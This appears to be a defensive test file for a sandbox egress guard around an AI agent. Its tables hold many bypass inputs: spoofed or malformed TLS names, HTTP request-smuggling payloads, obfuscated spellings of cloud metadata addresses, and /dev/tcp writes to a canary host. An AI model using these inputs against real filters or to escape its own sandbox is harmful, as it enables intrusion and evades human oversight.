#!/usr/bin/env bats
# Ways to reach an address that no allowed name has, or to speak to an allowed one under another name. See rows.bash
# for how the table is run.
#
# Of the part «Name, address, TLS» of the attacks, network.bats already has: UDP 443 and another port of an allowed
# address, MPTCP, UDP-Lite, pings, a socket bound to the outer interface, IPv6 to the canary and to an allowed
# name's address, other users, neighbours and published ports. syscalls.bats has the families of sockets.

load rows

# \r\n ends a line of HTTP: the fixture reads Python's escapes.
# shellcheck disable=SC2016,SC2034
rows=(
  'an allowed name to an address it does not have·1000·curl -sk --max-time 3 --resolve allowed.test:443:$CANARY https://allowed.test/$MARK·.web | any(.path == "/$MARK" and .local == "$CANARY")·guard output'
  "a denied name on an allowed name's address·1000·curl -sk --max-time 3 --resolve denied.test:443:\$ALLOWED https://denied.test/\$MARK·browsed·guard output"
  'TLS to an IP address, without a name·1000·curl -sk --max-time 3 https://$ALLOWED/$MARK·browsed·guard output'
  'plain HTTP on the port for TLS·1000·say $ALLOWED 443 "GET /$MARK HTTP/1.1\r\nHost: allowed.test\r\n\r\n"·wired·guard output'
  'SSH on the port for TLS·1000·say $ALLOWED 443 "SSH-2.0-$MARK\r\n"·wired·guard output'
  'noise on the port for TLS·1000·say $ALLOWED 443 "\x00\xff\x17$MARK\x00"·wired·guard output'
  'noise that begins as TLS does·1000·say $ALLOWED 443 "\x16\x03\x01\x00\x20\x02\x00\x00\x1c$MARK---------------------------"·wired·guard output'
  'a ClientHello of SSL 2·1000·say $ALLOWED 443 "\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10$MARK-----------------------------------"·wired·guard output'
  'half a ClientHello·1000·timeout 2 python3 /attacks/hello.py $ALLOWED 443 $MARK allowed.test half·wired·guard output'
  'a denied ClientHello octet by octet·1000·hello $ALLOWED 443 $MARK denied.test slowly·wired·guard output'
  'a denied ClientHello in records of sixty octets·1000·hello $ALLOWED 443 $MARK denied.test records·wired·guard output'
  'an encrypted ClientHello with an allowed outer name·1000·hello $ALLOWED 443 $MARK allowed.test ech·wired·guard output'
  'an encrypted name of the old kind beside an allowed one·1000·hello $ALLOWED 443 $MARK allowed.test esni·wired·guard output'
  'a ClientHello that names an allowed and a denied host in two extensions·1000·hello $ALLOWED 443 $MARK allowed.test twice·wired·guard output'
  'a ClientHello that names an allowed and a denied host in one extension·1000·hello $ALLOWED 443 $MARK allowed.test pair=denied.test·wired·guard output'
  'TLS on the port for plain HTTP·1000·hello $ALLOWED 80 $MARK allowed.test·wired·guard output'
  'SSH on the port for plain HTTP·1000·say $ALLOWED 80 "SSH-2.0-$MARK\r\n"·wired·guard output'
  'a connection of a client that never speaks·1000·timeout 2 python3 /attacks/hello.py 203.0.113.14 443 $MARK allowed.test never·.canary.sightings | any(.local == "203.0.113.14")·guard output'
  'an allowed name on a port that no rule of it opens·1000·hello $ALLOWED 8443 $MARK allowed.test·wired·guard output'
  'an MPTCP connection to an allowed address·1000·send mptcp 203.0.113.15 443·.canary.sightings | any(.local == "203.0.113.15")·guard output'
  'a UDP datagram to the port for TLS·1000·echo $MARK >/dev/udp/$CANARY/443·sighted·output'
  'a UDP-Lite datagram·1000·send udplite $CANARY 9·.canary.counters["packets.canary"] > 0·output'
  'a ping·1000·send icmp 203.0.113.16 0·.canary.counters["Icmp.InEchos"] > 0·output'
  'a socket bound to the outer interface, to loopback·1000·send udp 127.0.0.9 53 eth0·.stray > 0·leak'
  "root's TLS to an allowed address·0·curl -sk --max-time 3 --resolve allowed.test:443:\$ALLOWED https://allowed.test/\$MARK·browsed·output"
  "another user's TLS to an allowed address·1234·curl -sk --max-time 3 --resolve allowed.test:443:\$ALLOWED https://allowed.test/\$MARK·browsed·output"
  "the egress user's connection to an address that is not pinned·65053·echo \$MARK >/dev/tcp/\$CANARY/443·sighted·output"
)

# add_names TITLE=NAME...: each in a ClientHello to the address of allowed.test.
add_names() {
  local pair
  for pair in "$@"; do
    rows+=("a ClientHello for ${pair%%=*}·1000·hello \$ALLOWED 443 \$MARK \"${pair#*=}\"·wired·guard output")
  done
}

add_names \
  'nobody=-' 'an empty name=' 'an IP address=198.51.100.77' 'a denied name in upper case=DENIED.TEST' \
  'a denied name with a trailing dot=denied.test.' 'an allowed name with two trailing dots=allowed.test..' \
  'an allowed name before a zero octet=allowed.test\x00.denied.test' \
  'an allowed name after a zero octet=denied.test\x00.allowed.test' 'an allowed name and a zero octet=allowed.test\x00' \
  "a name of 300 characters=$(printf 'a%.0s' {1..60}.{,,,,}allowed.test | cut -c1-288)allowed.test" \
  "a label of 64 characters=$(printf 'a%.0s' {1..64}).wild.test" \
  'a name in punycode that looks like an allowed one=xn--llowed-7fg.test' \
  'a name in UTF-8 that looks like an allowed one=\xd0\xb0llowed.test' \
  'a name in wide letters that IDNA makes an allowed one=\xef\xbd\x81llowed.test' \
  'an allowed name with a soft hyphen=al\xc2\xadlowed.test' 'an allowed name as the beginning of another=allowed.evil.test' \
  'an allowed name as a whole within another=allowed.test.evil.test' 'an allowed name as the end of another=evilallowed.test' \
  'a name below an allowed exact one=below.allowed.test' 'the name a wildcard stands below=wild.test' \
  'an empty label below a wildcard=.wild.test' 'two dots below a wildcard=a..wild.test' 'a star below a wildcard=*.wild.test' \
  'an allowed name and a port=allowed.test:443' 'an allowed name and a space=allowed.test ' \
  'an allowed name and a line=allowed.test\r\nX: y' 'an allowed name and a path=allowed.test/x' \
  'a user at an allowed name=denied.test@allowed.test' 'an allowed name in brackets=[allowed.test]'

# add_spellings TITLE=URL-HOST...: of addresses that no name has. CONTROLS and BOXES are of all of them.
add_spellings() {
  local pair
  for pair in "${@:2}"; do
    rows+=("an HTTP request to ${pair%%=*}·1000·curl -sg --max-time 3 http://${pair#*=}/\$MARK·browsed·$1")
  done
}

add_spellings 'guard output' \
  'a denied address=198.51.100.66' 'a denied address in decimal=3325256770' 'a denied address in hexadecimal=0xc6336442' \
  'a denied address in octal=0306.063.0144.0102' 'a denied address in three parts=198.51.25666' \
  'a denied address as mapped IPv6=[::ffff:198.51.100.66]' 'a denied address as mapped IPv6 in hexadecimal=[::ffff:c633:6442]' \
  'the metadata address=169.254.169.254' 'the metadata address in decimal=2852039166' \
  'the metadata address in hexadecimal=0xa9fea9fe' 'the metadata address in octal=0251.0376.0251.0376' \
  'the metadata address in two parts=169.16689662' 'the metadata address as mapped IPv6=[::ffff:169.254.169.254]' \
  'the metadata address as mapped IPv6 in hexadecimal=[::ffff:a9fe:a9fe]' 'the address of the old metadata=192.0.0.192' \
  'the metadata address of another cloud=100.100.100.200'
add_spellings 'input6 output6·main' \
  'a denied IPv6 address=[2001:db8:c16::66]' 'a denied IPv6 address written out=[2001:0db8:0c16:0000:0000:0000:0000:0066]' \
  "an allowed name's IPv6 address=[2001:db8:c16::77]" 'an allowed IPv4 address behind NAT64=[64:ff9b::198.51.100.77]' \
  'an allowed IPv4 address in 6to4=[2002:c633:644d::1]' 'the IPv6 address of the metadata=[fd00:ec2::254]'
# shellcheck disable=SC2016
rows+=(
  'an HTTP request to the metadata address with an allowed Host·1000·curl -s --max-time 3 -H "Host: allowed.test" http://169.254.169.254/$MARK·.web | any(.path == "/$MARK" and .local == "169.254.169.254")·guard output'
  "root's HTTP request to the metadata address·0·curl -s --max-time 3 http://169.254.169.254/\$MARK·browsed·output"
  "an HTTP request to an allowed address on a port of no rule·1000·curl -s --max-time 3 http://\$ALLOWED:8080/\$MARK·browsed·output"
)

# add_requests TITLE=TEXT...: said on port 80 of allowed.test; HOST is an allowed Host header, EVIL a denied request.
add_requests() {
  local pair text
  for pair in "$@"; do
    text=${pair#*=}
    text=${text//HOST/Host: allowed.test\\r\\n} text=${text//EVIL/GET \/\$MARK HTTP\/1.1\\r\\nHost: denied.test\\r\\n\\r\\n}
    rows+=("${pair%%=*}·1000·say \$ALLOWED 80 \"${text}\"·wired·guard output")
  done
}

add_requests \
  'an HTTP request for a denied host=EVIL' 'an HTTP request without a host=GET /$MARK HTTP/1.1\r\n\r\n' \
  'an HTTP request with an empty host=GET /$MARK HTTP/1.1\r\nHost:\r\n\r\n' \
  'an HTTP request with two hosts=GET /$MARK HTTP/1.1\r\nHOSTHost: denied.test\r\n\r\n' \
  'an HTTP request with the same host twice=GET /$MARK HTTP/1.1\r\nHOSTHOST\r\n' \
  'an HTTP request with a list of hosts=GET /$MARK HTTP/1.1\r\nHost: allowed.test, denied.test\r\n\r\n' \
  'an HTTP request with a user at the host=GET /$MARK HTTP/1.1\r\nHost: allowed.test@denied.test\r\n\r\n' \
  'an HTTP request with a path in the host=GET /$MARK HTTP/1.1\r\nHost: allowed.test/x\r\n\r\n' \
  'an HTTP request with another port in the host=GET /$MARK HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n' \
  'an HTTP request with an IP address as host=GET /$MARK HTTP/1.1\r\nHost: 198.51.100.77\r\n\r\n' \
  'an HTTP request with a space before the colon=GET /$MARK HTTP/1.1\r\nHost : allowed.test\r\n\r\n' \
  'an HTTP request with a zero octet in its host=GET /$MARK HTTP/1.1\r\nHost: allowed.test\x00denied.test\r\n\r\n' \
  'an HTTP request with a zero octet in a header=GET /$MARK HTTP/1.1\r\nHOSTX: a\x00b\r\n\r\n' \
  'an HTTP request with a folded host=GET /$MARK HTTP/1.1\r\nHost: allowed.test\r\n .denied.test\r\n\r\n' \
  'an HTTP request with a folded header=GET /$MARK HTTP/1.1\r\nHOSTX: a\r\n Host: denied.test\r\n\r\n' \
  'an HTTP request with a header after a bare carriage return=GET /$MARK HTTP/1.1\r\nHOSTX: a\rHost: denied.test\r\n\r\n' \
  'an HTTP request whose first header line is folded=GET /$MARK HTTP/1.1\r\n HOSTHost: denied.test\r\n\r\n' \
  'CONNECT to a denied host=CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\nX: $MARK\r\n\r\n' \
  'CONNECT to an allowed host=CONNECT allowed.test:443 HTTP/1.1\r\nHOSTX: $MARK\r\n\r\n' \
  'CONNECT to a denied host under an allowed one=CONNECT denied.test:443 HTTP/1.1\r\nHOSTX: $MARK\r\n\r\n' \
  'an absolute URI of a denied host=GET http://denied.test/$MARK HTTP/1.1\r\nHOST\r\n' \
  'an absolute URI of an allowed host under a denied one=GET http://allowed.test/$MARK HTTP/1.1\r\nHost: denied.test\r\n\r\n' \
  'an absolute URI with a user=GET http://allowed.test@denied.test/$MARK HTTP/1.1\r\nHOST\r\n' \
  'an absolute URI of HTTPS=GET https://allowed.test/$MARK HTTP/1.1\r\nHOST\r\n' \
  'an upgrade to a WebSocket=GET /$MARK HTTP/1.1\r\nHOSTConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n' \
  'an upgrade to HTTP/2=GET /$MARK HTTP/1.1\r\nHOSTConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n' \
  'HTTP/2 with prior knowledge=PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n$MARK' 'HTTP/0.9=GET /$MARK\r\n' \
  'HTTP/1.0 without a host=GET /$MARK HTTP/1.0\r\n\r\n' \
  'a denied request right behind an allowed one=GET / HTTP/1.1\r\nHOST\r\nEVIL' \
  'a denied request behind a body of a length=POST / HTTP/1.1\r\nHOSTContent-Length: 4\r\n\r\nbodyEVIL' \
  'a denied request behind a chunked body=POST / HTTP/1.1\r\nHOSTTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nEVIL' \
  'a request smuggled by a length and chunks=POST / HTTP/1.1\r\nHOSTContent-Length: 70\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nEVIL' \
  'a request smuggled by chunks and a length=POST / HTTP/1.1\r\nHOSTTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n3c\r\nEVIL\r\n0\r\n\r\n' \
  'a request smuggled by two lengths=POST / HTTP/1.1\r\nHOSTContent-Length: 0\r\nContent-Length: 60\r\n\r\nEVIL' \
  'a request smuggled by a list of lengths=POST / HTTP/1.1\r\nHOSTContent-Length: 0, 60\r\n\r\nEVIL' \
  'a request smuggled by a length with a sign=POST / HTTP/1.1\r\nHOSTContent-Length: +60\r\n\r\nEVIL' \
  'a request smuggled by a length in hexadecimal=POST / HTTP/1.1\r\nHOSTContent-Length: 0x3c\r\n\r\nEVIL' \
  'a request smuggled by a coding nobody knows=POST / HTTP/1.1\r\nHOSTTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nEVIL' \
  'a request smuggled by two codings=POST / HTTP/1.1\r\nHOSTTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\nEVIL' \
  'a request smuggled by a coding given twice=POST / HTTP/1.1\r\nHOSTTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nEVIL' \
  'a request smuggled by a coding before a space=POST / HTTP/1.1\r\nHOSTTransfer-Encoding : chunked\r\nContent-Length: 60\r\n\r\nEVIL' \
  'a request smuggled by a vertical tab before the coding=POST / HTTP/1.1\r\nHOSTTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\nEVIL' \
  'a request smuggled by a chunk ended by a bare line feed=POST / HTTP/1.1\r\nHOSTTransfer-Encoding: chunked\r\n\r\n0\n\nEVIL' \
  'a host smuggled in a trailer=POST / HTTP/1.1\r\nHOSTTransfer-Encoding: chunked\r\n\r\n0\r\nHost: denied.test\r\nX: $MARK\r\n\r\n' \
  'a header of a hop named by Connection=GET / HTTP/1.1\r\nHOSTConnection: X\r\nX: $MARK\r\n\r\n'

# shellcheck disable=SC2016
rows+=('a second request for a denied host on an open HTTP connection·1000·say $ALLOWED 80 "GET /first-$MARK HTTP/1.1\r\nHost: allowed.test\r\n\r\n" "GET /second-$MARK HTTP/1.1\r\nHost: denied.test\r\n\r\n"·.web | any(.path == "/second-$MARK")·guard output')

register_rows

setup_file() {
  start_boxes --env 'ALLOW_DOMAINS=allowed.test,allowed.test:80,*.wild.test,other.test:8443,api.anthropic.com:80'
  play_table
}

teardown_file() {
  remove_all
}

# --- What works, and what was seen meanwhile ---------------------------------------------------------------

@test "an allowed name is reached by every way the attacks take, however its ClientHello and its request arrive" {
  local box how
  for box in $BOXES; do
    [[ $(as_agent "$box" 'curl -sS --max-time 5 https://allowed.test') == allowed ]]
    [[ $(as_agent "$box" 'curl -sS --max-time 5 http://allowed.test') == allowed ]]
    for how in '' slowly records; do
      # 22 is a record of the handshake: the server's hello.
      [[ $(as_agent "$box" "python3 /attacks/hello.py $ALLOWED 443 mark allowed.test $how") == 'record 22' ]]
    done
    [[ $(as_agent "$box" "python3 /attacks/hello.py $ALLOWED 443 mark any.wild.test") == 'record 22' ]]
  done
}

@test "a proven name leads to its own address in whatever spelling, and wherever it was dialled" {
  forget
  local box name
  for box in $BOXES; do
    for name in allowed.test ALLOWED.TEST allowed.test. Any.Wild.Test; do
      [[ $(as_agent "$box" "python3 /attacks/hello.py $CANARY 443 here-$box-$name $name") == 'record 22' ]]
      matches "$(world)" ".wire | any(.local == \"$ALLOWED\" and (.text | contains(\"here-$box-$name\")))"
    done
    as_agent "$box" "python3 /attacks/say.py $CANARY 80 'GET http://ALLOWED.test/spelled-$box HTTP/1.1\r\nHost: Allowed.TEST.\r\n\r\n'"
    holds /web/log "any(.[]; .path == \"/spelled-$box\" and .host == \"allowed.test\" and .local == \"$ALLOWED\")"
  done
  matches "$(world)" ".wire | all(.local == \"$ALLOWED\")"
  holds /canary '.sightings | all(.transport == "tls-name")'
}

@test "every request of an open HTTP connection is judged by itself, and the allowed ones before it arrived" {
  local box
  for box in $BOXES; do
    matches "$(<"$(record "$box" '')")" '[.web[] | select(.path | startswith("/first-"))] | length == 1'
    try as_agent "$box" "python3 /attacks/say.py $ALLOWED 80 'GET /one HTTP/1.1\r\nHost: allowed.test\r\n\r\n' \
      'GET /two HTTP/1.1\r\nHost: denied.test\r\n\r\n' 'GET /three HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n'"
    [[ $(grep -c 'HTTP/1.1 200' <<<"$output") == 2 && $(grep -c 'HTTP/1.1 403' <<<"$output") == 1 ]]
    [[ $output == *'"name":"denied.test"'*'cloister allow denied.test:80'* ]]
  done
}

@test "while the table was run nobody else was reached, and no byte of a request but for an allowed host" {
  local box
  for box in $BOXES; do
    matches "$(<"$(record "$box" '')")" '.canary.sightings == [] and .stray == 0 and (.canary.counters | all(. == 0))'
    matches "$(<"$(record "$box" '')")" '.web | all(.local != "198.51.100.77" or .host == "allowed.test")'
    # Claude itself is up, and speaks to its own hosts.
    matches "$(<"$(record "$box" '')")" '.wire | all((.text | test("denied|evil") | not) and (.local | IN("198.51.100.77", "198.51.100.20", "198.51.100.30")))'
  done
}

@test "a client that never speaks, or never to the end, is told so within eleven seconds" {
  as_agent main "python3 /attacks/hello.py $ALLOWED 443 mark allowed.test never >/tmp/never & 
    python3 /attacks/hello.py $ALLOWED 443 mark allowed.test half >/tmp/half &
    timeout 11.5 python3 -c 'import socket; c = socket.create_connection((\"$ALLOWED\", 80)); c.send(b\"GET / HTTP/1.1\"); print(c.recv(99))' >/tmp/head & wait"
  try as_agent main 'cat /tmp/never /tmp/half /tmp/head'
  [[ $output == 'alert 80'$'\n''alert 80'$'\n'*'408 Request Timeout'* ]]
}

# --- What comes in -----------------------------------------------------------------------------------------

@test "a neighbour on a network without the engine's rules reaches no server of the agent's; it does without the wall" {
  as_agent bare 'for how in udp tcp; do
    setsid python3 /fixtures/serve.py $how 3001 /tmp/$how-3001 >/dev/null 2>&1 </dev/null &
  done'
  eventually 5 as_agent bare 'grep listening /tmp/udp-3001 && grep listening /tmp/tcp-3001'
  visit_bare
  run ! as_agent bare 'grep visitor /tmp/udp-3001 /tmp/tcp-3001'
  remove_control bare input
  remove_control bare output
  visit_bare
  try eventually 3 as_agent bare 'grep "visitor 198.51.100" /tmp/udp-3001 && grep "visitor 198.51.100" /tmp/tcp-3001'
  rebuild_wall bare
  [[ $status == 0 ]]
}

visit_bare() {
  in_box internet "echo x >/dev/udp/$BARE/3001; timeout 1 bash -c 'echo x >/dev/tcp/$BARE/3001'" || true
}

# --- Names that are taken away -----------------------------------------------------------------------------

@test "an open connection to a name is cut within a second once the name is denied, and a new one is refused" {
  local box
  for box in $BOXES; do
    as_agent "$box" "setsid python3 /attacks/hold.py allowed.test 443 >/tmp/held-tls 2>&1 </dev/null &
      setsid python3 /attacks/hold.py allowed.test 80 >/tmp/held-http 2>&1 </dev/null &
      setsid python3 /attacks/hold.py any.wild.test 443 >/tmp/kept 2>&1 </dev/null &"
    eventually 5 as_agent "$box" 'grep -q open /tmp/held-tls && grep -q open /tmp/held-http && grep -q open /tmp/kept'
    deny "$box" allowed.test:80
    deny "$box" allowed.test
    all_cut_soon "$box" 2
    run ! as_agent "$box" 'curl -s --max-time 2 https://allowed.test'
    forget
    run ! as_agent "$box" "curl -sk --max-time 2 --resolve allowed.test:443:$ALLOWED https://allowed.test/removed"
    holds /web/wire '. == []'
    # Another name's, on the same address, lives on.
    run ! as_agent "$box" 'grep cut /tmp/kept'
    "$ENGINE" exec "$NAME-$box" cloister allow allowed.test
    "$ENGINE" exec "$NAME-$box" cloister allow allowed.test:80
    eventually 10 as_agent "$box" 'curl -sf --max-time 2 https://allowed.test && curl -sf --max-time 2 http://allowed.test'
  done
}
